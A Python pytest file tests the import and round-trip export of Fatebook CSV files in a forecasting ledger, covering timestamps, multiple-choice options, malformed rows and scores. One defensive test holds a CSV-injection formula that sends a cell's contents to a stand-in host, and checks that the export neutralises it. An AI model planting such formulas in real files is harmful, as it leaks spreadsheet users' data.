"""Fatebook's CSV export: a file in the shape Fatebook writes (fixtures/fatebook/, see its
README for the source), and round trips export -> import on the demo ledger and on a ledger
with an ordered multiple-choice question."""

from __future__ import annotations

import csv
import shutil
import tempfile
from datetime import datetime
from pathlib import Path

import previous_exporters
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forecasts.domain import forecaster_kind
from forecasts.errors import ImportRejected, InvalidInput
from forecasts.ledger import Ledger
from forecasts.scoring import ScoreRule, score_table
from forecasts.sources.fatebook import COLUMNS, _stamp, export_fatebook, fatebook_time, import_fatebook

FIXTURE = Path(__file__).parent / "fixtures" / "fatebook" / "fatebook-export.csv"
HEADER = ",".join(COLUMNS)


def _csv(tmp_path, name, body, header=HEADER):
    path = tmp_path / name
    path.write_text(header + "\n" + body.strip("\n"), encoding="utf-8")
    return path


def test_real_export_imports(ledger, snapshot):
    s = import_fatebook(ledger, FIXTURE)
    assert s.added == {"questions": 4, "resolutions": 3, "forecasts": 9} and s.malformed == []
    q = ledger.questions().set_index("title")
    treaty = q.loc['Will the "New START" treaty be extended before 5 Feb 2021?']
    assert treaty["outcome"] == "yes" and treaty["criteria"] == "Resolves YES if both parties\nexchange notes."
    assert treaty["tags"] == ["arms-control", "fatebook", "russia"]  # the last column, "; "-separated
    assert str(treaty["opens_at"]) == "2021-01-01 08:00:00" and str(treaty["closes_at"]) == "2021-02-05 00:00:00"
    assert q.loc["Will it snow in Geneva on 1 Dec?", "outcome"] == "ambiguous"
    assert str(q.loc["Will it snow in Geneva on 1 Dec?", "opens_at"]) == "2021-11-19 18:45:09"  # '18:45:9'
    party = q.loc["Which party wins the most seats?"]
    assert party["options"] == ["red", "blue", "green", "other"] and party["outcome"] == "blue"
    fs = ledger.forecasts()
    ana = fs[(fs.question == party["id"]) & (fs.forecaster == "fatebook:Ana_Ruiz")].sort_values("made_at")
    # one option at a time: 12:00:4 red+blue (one forecast), 12:00:5 green, then red again
    assert [str(t) for t in ana["made_at"]] == ["2021-03-01 12:00:04", "2021-03-01 12:00:05", "2021-04-10 08:30:00"]
    got = [{k: round(v, 9) for k, v in p.items()} for p in ana["probabilities"]]
    assert got == [{"red": 0.5, "blue": 0.3, "green": 0.0, "other": 0.2},
                   {"red": 0.5, "blue": 0.3, "green": 0.2, "other": 0.0},
                   {"red": 0.35, "blue": 0.3, "green": 0.2, "other": 0.15}]
    bo = fs[(fs.question == party["id"]) & (fs.forecaster == "fatebook:Bo_Chen")]["probabilities"].iloc[0]
    assert {k: round(v, 9) for k, v in bo.items()} == {"red": 0.0, "blue": 0.0, "green": 0.25, "other": 0.75}
    t = fs[fs.question == treaty["id"]].sort_values("made_at")
    assert t["probability"].tolist() == [0.7, 0.45, 0.85]
    assert str(t["made_at"].iloc[0]) == "2021-01-02 09:05:07"
    before = snapshot(ledger)
    assert import_fatebook(ledger, FIXTURE).total_added() == 0 and snapshot(ledger) == before


@given(st.datetimes(min_value=datetime(1970, 1, 1), max_value=datetime(9998, 12, 31)))
def test_fatebook_times_read_back(t):
    t = t.replace(microsecond=0)
    assert fatebook_time(_stamp(t)) == t.isoformat()


def test_older_export_without_tags_column(ledger, tmp_path):
    body = '"Q?",,"Ana",0.7,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,,,,,,,false,'
    s = import_fatebook(ledger, _csv(tmp_path, "old.csv", body, ",".join(COLUMNS[:16])))
    assert s.added["forecasts"] == 1 and ledger.questions()["tags"].iloc[0] == ["fatebook"]


def test_unknown_column_is_named(ledger, tmp_path):
    body = '"Q?",,"Ana",0.7,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,,,,,,,false,,,x'
    with pytest.raises(InvalidInput, match="Question id"):
        import_fatebook(ledger, _csv(tmp_path, "new.csv", body, HEADER + ",Question id"))


def test_non_exclusive_question_is_refused_with_the_reason(ledger, tmp_path, snapshot):
    body = """
"Which will happen?","A","Ana",0.7,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,,,,,,,false,,
"Which will happen?","B","Ana",0.6,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,,,,,,,false,,
"""
    before = snapshot(ledger)
    with pytest.raises(ImportRejected) as info:
        import_fatebook(ledger, _csv(tmp_path, "mc.csv", body))
    assert info.value.problems == [(2, "the options' latest probabilities sum to 1.3 > 1: a non-exclusive "
                                       "Fatebook question, which one multiple-choice forecast cannot hold")]
    assert snapshot(ledger) == before


def test_every_option_no_is_left_unresolved_and_said(ledger, tmp_path):
    body = """
"Which?","A","Ana",0.7,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,"NO",2023-02-02 00:00:0,,,,,false,,
"Which?","B","Ana",0.3,2023-01-02 10:00:0,"Ana",2023-01-01 09:00:0,2023-02-01 00:00:0,"NO",2023-02-02 00:00:0,,,,,false,,
"""
    s = import_fatebook(ledger, _csv(tmp_path, "mc.csv", body))
    assert s.added == {"questions": 1, "resolutions": 0, "forecasts": 1}
    assert "OTHER and AMBIGUOUS alike" in s.notes[0]


def test_malformed_row_has_its_line(ledger, tmp_path):
    bad = FIXTURE.read_text(encoding="utf-8").replace('"Bo Chen",0.45', '"Bo Chen",1.45')
    with pytest.raises(ImportRejected) as info:
        import_fatebook(ledger, _csv(tmp_path, "f.csv", bad.split("\n", 1)[1]))
    assert info.value.problems == [(4, "probability 1.45 is outside [0, 1]")]


def _round_trip(ledger: Ledger, tmp_path: Path) -> tuple[Ledger, Path]:
    out = export_fatebook(ledger, tmp_path / "out.csv")
    fresh = Ledger.open(tmp_path / "fresh.duckdb", create=True)
    import_fatebook(fresh, out)
    return fresh, out


def _renamed(name: str) -> str:
    return name if forecaster_kind(name) != "person" else f"fatebook:{name}"


def _scores(ledger: Ledger, rule: ScoreRule, *, rename: bool = False) -> dict[str, float]:
    t = score_table(ledger.forecasts(), ledger.questions(), ledger.resolutions(), by="forecaster", rule=rule)
    return {(_renamed(str(k)) if rename else str(k)): float(v) for k, v in t["score"].items()}


def test_round_trip_of_the_demo_ledger(demo_copy, tmp_path):
    fresh, out = _round_trip(demo_copy, tmp_path)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == COLUMNS and len(rows) == len(demo_copy.forecasts())
    assert rows[0]["Forecast created at"].count(":") == 2
    qa, qb = demo_copy.questions(), fresh.questions()
    cols = ["id", "title", "kind", "options", "ordered", "opens_at", "closes_at", "outcome", "tags", "criteria"]
    # a question nobody forecast has no row to travel in: the demo's Good Judgment Open question 942
    assert set(qa["id"]) - set(qb["id"]) == {"gjopen-942"} and qa.set_index("id").at["gjopen-942", "n_forecasts"] == 0
    qa = qa[qa["id"].isin(qb["id"])]
    assert qa[cols].to_dict("records") == qb[cols].to_dict("records")  # ids kept, no 'fatebook' tag added
    # in one order: the export keeps whole seconds, and series of several questions share some
    a = demo_copy.forecasts().assign(second=lambda d: d["made_at"].dt.floor("s"))
    a = a.sort_values(["second", "forecaster", "question"], kind="stable").reset_index(drop=True)
    b = fresh.forecasts().sort_values(["made_at", "forecaster", "question"], kind="stable").reset_index(drop=True)
    assert [_renamed(n) for n in a["forecaster"]] == b["forecaster"].tolist()
    assert "import:metaculus" in set(b["forecaster"])  # kept as itself
    assert a["made_at"].dt.floor("s").tolist() == b["made_at"].tolist()
    assert a["probability"].tolist() == b["probability"].tolist()
    assert (a["made_at"] != b["made_at"]).any()  # the Metaculus points carry fractions of a second
    rules: tuple[ScoreRule, ...] = ("brier", "log")
    for rule in rules:  # time-averaged: cutting them to the second moves the score by < 1e-7
        assert _scores(demo_copy, rule, rename=True) == pytest.approx(_scores(fresh, rule), rel=1e-7, nan_ok=True)


@pytest.fixture
def ordered_ledger(ledger) -> Ledger:
    ledger.import_history(questions=[
        {"qid": "casualties", "title": "How many casualties, 2021?", "opens": "2021-01-01", "closes": "2021-12-01",
         "kind": "multiple_choice", "options": ["under-100", "100-1000", "over-1000"], "ordered": True,
         "tags": ["conflict"], "by": "ana", "criteria": "Per the UN count."}], source="import:test")
    ledger.import_history(forecasts=[
        {"question": "casualties", "forecaster": f, "made_at": at, "options": p, "source_id": f"{f}{at}"}
        for f, at, p in (("model:hazard", "2021-02-01T10:00:00", {"under-100": 0.6, "100-1000": 0.3, "over-1000": 0.1}),
                         ("ana", "2021-02-03T08:00:00", {"under-100": 0.1, "100-1000": 0.2, "over-1000": 0.7}),
                         ("ana", "2021-06-03T08:00:00", {"under-100": 0.05, "100-1000": 0.15, "over-1000": 0.8}))],
        source="import:test")
    ledger.import_history(resolutions=[{"question": "casualties", "outcome": "under-100", "on": "2021-12-02"}],
                          source="import:test")
    return ledger


def test_round_trip_keeps_ordered_scores(ordered_ledger, tmp_path):
    fresh, _ = _round_trip(ordered_ledger, tmp_path)
    q = fresh.questions().iloc[0]
    assert q["id"] == "casualties" and bool(q["ordered"]) and q["options"] == ["under-100", "100-1000", "over-1000"]
    assert set(fresh.forecasts()["forecaster"]) == {"model:hazard", "fatebook:ana"}
    rules: tuple[ScoreRule, ...] = ("brier", "log")
    for rule in rules:
        assert _scores(ordered_ledger, rule, rename=True) == pytest.approx(_scores(fresh, rule), abs=1e-9)
    assert _scores(fresh, "brier") != _scores(fresh, "log")


def test_cli_import_and_help(cli, tmp_path):
    shutil.copyfile(FIXTURE, tmp_path / "fb.csv")
    r = cli("import", "fatebook", "fb.csv")
    assert r.returncode == 0, r.stderr
    assert "added 4 questions, 3 resolutions, 9 forecasts" in r.stdout
    h = cli("import", "fatebook", "--help")
    assert h.returncode == 0
    for column in COLUMNS:
        assert column in " ".join(h.stdout.split())
    assert '"; "' in h.stdout
    bad = tmp_path / "bad.csv"
    bad.write_text("title,prob\nx,0.5\n")
    r = cli("import", "fatebook", "bad.csv")
    assert r.returncode == 2 and "not a Fatebook export" in r.stderr


@settings(max_examples=12, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 2), st.integers(0, 40), st.booleans()), min_size=1, max_size=8))
def test_option_rows_replay_to_the_running_state(steps):
    """Per-option rows, applied in time order (a step either shares the previous second or
    moves on), give one forecast per second equal to Fatebook's running state (options not yet
    given at 0, the rest to 'other')."""
    options, state, lines, second = ["A", "B", "C"], [0.0, 0.0, 0.0], [], 0
    expected: dict[int, list[float]] = {}
    for option, percent, same_second in steps:
        trial = list(state)
        trial[option] = percent / 100
        if sum(trial) > 1:  # Fatebook refuses it for an exclusive question
            continue
        second += 0 if (same_second and lines) else 1
        state = trial
        expected[second] = list(state)
        lines.append(f'"Which?","{options[option]}","Ana",{percent / 100},2023-01-02 10:00:{second},"Ana",'
                     '2023-01-01 09:00:0,2023-02-01 00:00:0,,,,,,,false,,')
    if not lines:
        return
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "f.csv"
        path.write_text(HEADER + "\n" + "\n".join(lines), encoding="utf-8")
        ledger = Ledger.open(Path(tmp) / "l.duckdb", create=True)
        import_fatebook(ledger, path)
        fs = ledger.forecasts().sort_values("made_at")
        assert [t.second for t in fs["made_at"]] == sorted(expected)
        for (_, probs), want in zip(fs["probabilities"].items(), [expected[k] for k in sorted(expected)], strict=True):
            got = [probs.get(o.lower(), 0.0) for o in options]
            assert got == pytest.approx(want, abs=1e-9)
            assert sum(probs.values()) == pytest.approx(1.0)


def test_the_export_guards_spreadsheet_formulas_and_the_round_trip_restores_them(ledger, tmp_path):
    """A title and a criteria cell that a spreadsheet would run (OWASP's CSV injection) are written
    with a leading quote; importing the file back gives the original text."""
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    ledger.add_question("evil", title=evil, closes="2300-01-01", criteria="+1 if it rains; -1 otherwise")
    ledger.log("evil", 0.3, by="alice")
    out = export_fatebook(ledger, tmp_path / "out.csv")
    with out.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["Question title"] == "'" + evil and row["Question notes"].startswith("'+1")
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
    fresh = Ledger.open(tmp_path / "fresh.duckdb", create=True)
    import_fatebook(fresh, out)
    (q,) = fresh.questions().itertuples()
    assert q.title == evil and q.criteria == "+1 if it rains; -1 otherwise"


# ---------------------------------------------------------------------- the column-wise export

def test_times_are_written_as_before():
    """The column-wise stamps are the row-by-row ones (:mod:`previous_exporters`), missing times
    included, either side of 1970 and to the last microsecond of a day."""
    times = [datetime(2021, 2, 5), datetime(2021, 2, 5, 0, 0, 7, 999_999), datetime(1969, 12, 31, 23, 59, 59, 500_000),
             datetime(2024, 2, 29, 23, 59, 59), datetime(9998, 12, 31, 23, 59, 59), None]
    assert [_stamp(t) for t in times] == [previous_exporters._stamp(t) for t in times]
